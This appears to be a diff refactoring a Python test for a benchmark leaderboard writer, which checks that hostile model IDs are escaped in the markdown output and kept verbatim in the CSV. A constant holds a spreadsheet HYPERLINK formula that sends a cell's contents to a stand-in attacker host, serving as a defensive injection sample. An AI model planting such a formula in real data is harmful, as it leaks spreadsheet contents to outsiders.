@@ -19,7 +19,7 @@ from blindpairs.workspace import Workspace
 from evaluation.leaderboard import write_leaderboard
 from evaluation.loaders import load_benchmark
 
-from .conftest import annotation, result
+from .files import annotation, result
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
@@ -98,14 +98,15 @@ def test_leaderboard_markdown_escapes_model_ids(tmp_path: Path) -> None:
         "prompt_version": "mmvp-v1",
         "complete": True,
     }
-    (tmp_path / "run1").mkdir()
-    (tmp_path / "run1" / "scores.json").write_text(json.dumps(scores))
-    write_leaderboard(tmp_path)
-    lines = (tmp_path / "leaderboard.md").read_text().splitlines()
+    ws = Workspace(tmp_path)
+    ws.scores("run1").parent.mkdir(parents=True)
+    ws.scores("run1").write_text(json.dumps(scores))
+    write_leaderboard(ws)
+    lines = ws.leaderboard_md.read_text().splitlines()
     at = next(i for i, line in enumerate(lines) if line.startswith("| # |"))
     header, row = lines[at], lines[at + 2]
     unescaped_pipes = row.replace("\\|", "").count("|")
     assert unescaped_pipes == header.count("|")  # no extra column
     assert "<img" not in row and "<b>" not in row and "&lt;img" in row
-    with open(tmp_path / "leaderboard.csv", newline="") as fh:
+    with open(ws.leaderboard, newline="") as fh:
         assert next(csv.DictReader(fh))["model"] == hostile  # the data file keeps it as is
